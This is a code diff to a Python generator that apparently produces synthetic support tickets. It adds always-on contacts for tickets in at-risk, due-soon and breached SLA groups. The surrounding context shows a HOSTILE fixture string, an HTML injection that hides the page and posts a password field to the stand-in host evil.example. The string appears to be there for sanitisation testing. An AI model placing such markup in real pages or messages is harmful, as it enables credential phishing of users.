@@ -35,14 +35,24 @@ HOSTILE = (
     '<form action="https://evil.example/"><input name=password></form><style>body{display:none}</style><p>Help!</p>',
 )
 FILE_SHARE = 0.075
+LAID_OUT = ("at_risk", "due_soon", "breached")
+"""Groups whose deadline is set out from now: no closed hour may come between."""
 
 
 class Writer:
     """Turns slots into stories; one dice, so the order of calls decides the words."""
 
-    def __init__(self, dice: random.Random, now: int, contacts: list[Record], workers: dict[str, list[int]]) -> None:
+    def __init__(
+        self,
+        dice: random.Random,
+        now: int,
+        contacts: list[Record],
+        always: list[Record],
+        workers: dict[str, list[int]],
+    ) -> None:
+        """`always`: contacts for whom the clock runs day and night."""
         self._dice, self._now = dice, now
-        self._contacts = contacts
+        self._contacts, self._always = contacts, always
         self._by_id = {contact["id"]: contact for contact in contacts}
         self._workers = workers
         self._action_id = 0
@@ -52,7 +62,8 @@ class Writer:
         dice = self._dice
         problem = texts.problem(dice, priority=slot.priority or None)
         special = SPECIAL.get((slot.group, slot.ordinal))
-        contact = self._by_id.get(special or 0) or self._contacts[int(dice.random() * len(self._contacts))]
+        askers = self._always if slot.group in LAID_OUT else self._contacts
+        contact = self._by_id.get(special or 0) or askers[int(dice.random() * len(askers))]
         team = problem.kind.team
         agent = dice.choice(self._workers[team]) if dice.random() > 0.03 else dice.choice((1, 3))
         ticket: Record = {
